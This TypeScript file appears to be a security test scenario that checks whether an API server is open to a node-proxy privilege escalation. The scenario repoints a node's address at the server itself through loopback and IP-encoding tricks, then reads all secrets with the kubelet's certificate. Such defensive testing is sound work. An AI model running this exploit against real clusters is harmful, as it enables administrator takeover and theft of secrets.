import type { Endpoints, Service } from '@coxswain/api/core/v1';
import { ApiError } from '@coxswain/apimachinery/errors';
import { ClientSet, RESTClient } from '@coxswain/client';
import { loadRestConfig } from '@coxswain/client/kubeconfig';
import { asAdministrator, type RunningServer } from '../contender.ts';
import type { Finding, Scenario } from '../scenario.ts';

const name = 'node-to-admin';
const namespace = 'default';
const timeoutMs = 10_000;

/** The kubelet address that a node reports. */
interface Place {
  readonly measure: string;
  readonly address: string;
  readonly port: number;
}

/**
 * A user who may only write `nodes/status` and `nodes/proxy` points a node at the API server itself. The server then sends itself the
 * user's requests to the node, with the client certificate meant for kubelets.
 */
export const nodeToAdmin: Scenario = {
  name,
  what: 'a node that points at the API server itself',
  needs: 'address',
  async run(contender) {
    const server = await contender.start();
    return asAdministrator(server, async (rest) => {
      const clients = new ClientSet(rest);
      const { nodes, serviceAccounts } = clients.core.v1;
      const { clusterRoles, clusterRoleBindings } = clients.rbac.v1;
      try {
        await serviceAccounts(namespace).create({ metadata: { name } });
        await clusterRoles().create({
          metadata: { name },
          rules: [
            { apiGroups: [''], resources: ['nodes/status'], resourceNames: [name], verbs: ['update', 'patch'] },
            { apiGroups: [''], resources: ['nodes/proxy'], resourceNames: [name], verbs: ['*'] },
          ],
        });
        await clusterRoleBindings().create({
          metadata: { name },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name },
          subjects: [{ kind: 'ServiceAccount', name, namespace }],
        });
        await nodes().create({ metadata: { name } });
        const { status } = await serviceAccounts(namespace).createToken(name, { spec: { audiences: [] } });
        return await attackFrom(server, status?.token ?? '', await placesOf(server, clients));
      } finally {
        const removed = [nodes(), clusterRoleBindings(), clusterRoles(), serviceAccounts(namespace)];
        for (const resource of removed) await resource.delete(name).catch(() => {});
      }
    });
  },
};

/** Returns all addresses of the server that a user may try. */
async function placesOf({ host, port, pid }: RunningServer, clients: ClientSet): Promise<Place[]> {
  const service: Service = await clients.core.v1.services('default').get('kubernetes');
  const endpoints: Endpoints | undefined = await clients.core.v1
    .endpoints('default')
    .get('kubernetes')
    .catch(() => undefined);
  const advertised = endpoints?.subsets?.[0];
  const at = (address: string): Place => ({ measure: address, address, port });
  return [
    { measure: 'as clients reach it', address: host, port },
    ...['127.0.0.1', '0.0.0.0', '::', '::1', '::ffff:127.0.0.1', '127.1', '2130706433', 'localhost'].map(at),
    { measure: 'in IPv6, as mapped', address: `::ffff:${host}`, port },
    // Only for a server not started here: without service routing, the ClusterIP may belong to another machine.
    ...(pid === undefined
      ? [
          { measure: 'ClusterIP of kubernetes', address: service.spec?.clusterIP ?? '', port: 443 },
          { measure: 'the same, as mapped', address: `::ffff:${service.spec?.clusterIP}`, port: 443 },
        ]
      : []),
    ...(advertised
      ? [
          {
            measure: 'endpoint of kubernetes',
            address: advertised.addresses?.[0]?.ip ?? '',
            port: advertised.ports?.[0]?.port ?? port,
          },
        ]
      : []),
  ];
}

async function attackFrom(server: RunningServer, token: string, places: readonly Place[]): Promise<Finding[]> {
  const { credentials: _, ...config } = await loadRestConfig({ path: server.kubeconfig });
  const credentials = { current: async () => ({ token }), refused: () => false };
  const rest = RESTClient.forConfig({ ...config, credentials, qps: 0 }, { maxRetries: 0 });
  try {
    const findings: Finding[] = [];
    for (const place of places) findings.push(await attack(rest, place));
    return findings;
  } finally {
    await rest.close();
  }
}

async function attack(rest: RESTClient, { measure, address, port }: Place): Promise<Finding> {
  const status = {
    addresses: [{ type: 'InternalIP', address }],
    daemonEndpoints: { kubeletEndpoint: { Port: port } },
  };
  await new ClientSet(rest).core.v1.nodes().patchStatus(name, 'json', [{ op: 'add', path: '/status', value: status }]);
  const through = `/api/v1/nodes/${name}/proxy`;
  const review = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
  const who = await told(() =>
    rest.request<{ status?: { userInfo?: { username?: string } } }>({
      method: 'POST',
      path: through + review,
      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' },
      timeoutMs,
    }),
  );
  const secrets = await told(() => rest.request({ method: 'GET', path: `${through}/api/v1/secrets`, timeoutMs }));
  const isAdministrator = typeof secrets !== 'string';
  const as = typeof who === 'string' ? who : `is ${who.status?.userInfo?.username}`;
  return { measure, value: isAdministrator ? `${as}, has all secrets` : as, ok: !isAdministrator };
}

/** Returns the response, or the error message. */
async function told<T>(ask: () => Promise<T>): Promise<T | string> {
  try {
    return await ask();
  } catch (error) {
    if (error instanceof ApiError) return `${error.code} ${error.message}`;
    return error instanceof Error ? error.message : String(error);
  }
}
